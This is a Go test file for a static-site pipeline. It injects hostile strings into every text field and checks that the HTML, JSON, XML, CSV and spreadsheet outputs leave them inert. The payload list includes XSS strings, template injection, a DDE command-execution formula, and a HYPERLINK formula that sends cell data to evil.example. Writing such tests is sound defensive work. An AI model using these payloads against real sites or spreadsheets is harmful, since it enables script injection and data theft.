package pipeline_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"chiso/internal/pipeline"
)

// hostileText are strings an editor could paste into any text field, each aimed at one way
// of escaping: HTML and <script>, attributes, javascript: URLs, templates, go-echarts'
// function marker, spreadsheet formulas, bidirectional text.
var hostileText = []string{
	`</script><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm")`,
	`javascript:alert(1)`,
	`+1+cmd|' /C calc'!A0`,
	`{{.Site.Config}}`,
	`-1-1`,
	`__f__function(){alert(1)}__f__`,
	`@SUM(1,2)`,
	"\u202eabc'; alert(1); '",
	`' onmouseover='alert(1)`,
	"\t=1+1",
}

// textFields are the text keys of each kind of file of the minimal site.
var textFields = map[string][]string{
	"config.toml":               {"title", "entity", "source_tag", "author", "index_name"},
	"data/documents.toml":       {"type", "number", "issuer"},
	"data/indicators.toml":      {"name", "short", "counts", "definition"},
	"data/levels.toml":          {"name"},
	"data/periods/2024-04.toml": {"source_system", "type", "number", "issuer", "source"},
	"data/periods/2024-05.toml": {"source_system", "type", "number", "issuer", "source"},
	"content/gioi-thieu.md":     {"title", "summary"},
}

// poison puts a hostileText string, a different one at each line, in every text field of
// every kind of file, and the first ones in the body of a page too.
func poison(t *testing.T, base fstest.MapFS) fstest.MapFS {
	m := fstest.MapFS{}
	for k, v := range base {
		m[k] = v
	}
	n := 0
	for file, keys := range textFields {
		src := string(m[file].Data)
		for _, k := range keys {
			re := regexp.MustCompile(`(?m)^(\s*` + k + `\s*=\s*)"[^"\n]*"`)
			src = re.ReplaceAllStringFunc(src, func(line string) string {
				h := hostileText[n%len(hostileText)] + fmt.Sprint(" ", n) // distinct: names must differ
				n++
				return re.FindStringSubmatch(line)[1] + strconv.Quote(h)
			})
		}
		m[file] = &fstest.MapFile{Data: []byte(src)}
	}
	page := string(m["content/gioi-thieu.md"].Data) + "\n" + strings.Join(hostileText, "\n\n") + "\n\n[x](javascript:alert(1))\n"
	m["content/gioi-thieu.md"] = &fstest.MapFile{Data: []byte(page)}
	if n < 30 {
		t.Fatalf("only %d fields poisoned", n)
	}
	return m
}

// TestHostileStrings builds the poisoned site and reads every output back as its
// consumer would: HTML, JSON, feeds, every CSV with a CSV reader, the workbook with a
// spreadsheet reader. No string may come out as markup, script, URL or formula.
func TestHostileStrings(t *testing.T) {
	files, probs, err := pipeline.Site(pipeline.Options{Source: poison(t, minimalSite(t))})
	if err != nil {
		t.Fatalf("the poisoned site did not build: %v\n%s", err, probs)
	}
	// Raw markup in any text output; in HTML the parsed tree is checked too.
	markup := regexp.MustCompile(`(?i)<script>alert|<img src=x|(href|src|action)="\s*javascript:`)
	csvs, htmls := 0, 0
	for _, p := range files.Paths() {
		data := files[p]
		switch {
		case strings.HasSuffix(p, ".html"):
			htmls++
			if m := markup.Find(data); m != nil {
				t.Errorf("%s: %q came out as markup", p, m)
			}
			checkTree(t, p, data)
			if bytes.Contains(data, []byte("{{.Site")) && !bytes.Contains(data, []byte("{{.Site.Config}}")) {
				t.Errorf("%s: a template in the data was executed", p)
			}
		case strings.HasSuffix(p, ".json"):
			if !json.Valid(data) {
				t.Errorf("%s: not JSON", p)
			}
			if m := markup.Find(data); m != nil {
				t.Errorf("%s: %q", p, m)
			}
		case strings.HasSuffix(p, ".xml"):
			d := xml.NewDecoder(bytes.NewReader(data))
			for {
				if _, err := d.Token(); err == io.EOF {
					break
				} else if err != nil {
					t.Errorf("%s: not XML: %v", p, err)
					break
				}
			}
		case strings.HasSuffix(p, ".csv"):
			csvs++
			checkCSVInert(t, p, data)
		case strings.HasSuffix(p, ".xlsx"):
			checkWorkbook(t, p, data)
		}
	}
	if csvs < 10 || htmls < 20 {
		t.Errorf("only %d CSV and %d HTML files checked", csvs, htmls)
	}
}

// checkTree parses a page as a browser does: no element may carry an event handler or a
// javascript: address, and no script that runs may hold the data's alert(1) (the JSON
// blocks that charts and JSON-LD read are data, not script).
func checkTree(t *testing.T, name string, data []byte) {
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			for _, a := range n.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(a.Key, "on") || (a.Key == "href" || a.Key == "src" || a.Key == "action") && strings.HasPrefix(v, "javascript:") {
					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
				}
			}
			if n.Data == "script" && n.FirstChild != nil {
				typ := ""
				for _, a := range n.Attr {
					if a.Key == "type" {
						typ = a.Val
					}
				}
				if typ != "application/json" && typ != "application/ld+json" && strings.Contains(n.FirstChild.Data, "alert(1)") {
					t.Errorf("%s: a running script holds the data: %.80q", name, n.FirstChild.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func checkWorkbook(t *testing.T, name string, data []byte) {
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer f.Close()
	seen := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s %s!%s holds the formula %q", name, sheet, cell, formula)
				}
				for _, h := range hostileText {
					if strings.HasPrefix(v, h) {
						seen++
					}
				}
			}
		}
	}
	if seen == 0 {
		t.Errorf("%s: no hostileText string found: the test checks nothing", name)
	}
}

// checkCSVInert: a CSV file parses, and no text cell starts as a spreadsheet formula.
func checkCSVInert(t *testing.T, p string, data []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", p, err)
	}
	for i, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s row %d: %q would run as a formula", p, i+1, cell)
				}
			}
		}
	}
}
